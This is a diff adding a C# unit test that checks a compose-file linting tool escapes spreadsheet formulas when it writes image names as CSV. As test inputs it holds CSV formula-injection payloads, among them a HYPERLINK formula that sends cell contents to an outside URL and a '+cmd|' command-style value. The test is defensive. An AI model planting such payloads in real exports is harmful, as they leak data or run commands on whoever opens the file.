@@ -144,6 +144,19 @@ public sealed class ImagesCommandTests
     }
 
     [Fact]
+    public void CsvNeutralisesSpreadsheetFormulasFromTheLintedFiles()
+    {
+        using var dir = new TempDir();
+        dir.Write("compose.yaml", "services:\n  a:\n    image: '=HYPERLINK(\"http://x/\"&A1,\"y\")'\n  b:\n    image: '@SUM(1)'\n  c:\n    image: '+cmd|x'\n");
+        var result = Run(dir.Path, "images", "--format", "csv");
+        Assert.Equal(0, result.ExitCode);
+        var lines = result.Stdout.Split("\r\n");
+        Assert.StartsWith("\"'=HYPERLINK(\"\"http://x/\"\"&A1,\"\"y\"\")\",", lines[1], StringComparison.Ordinal);
+        Assert.StartsWith("'@SUM(1),", lines[2], StringComparison.Ordinal);
+        Assert.StartsWith("'+cmd|x,", lines[3], StringComparison.Ordinal);
+    }
+
+    [Fact]
     public void OutputGoesToTheFileAndNothingIsFoundIsSaid()
     {
         using var dir = new TempDir();
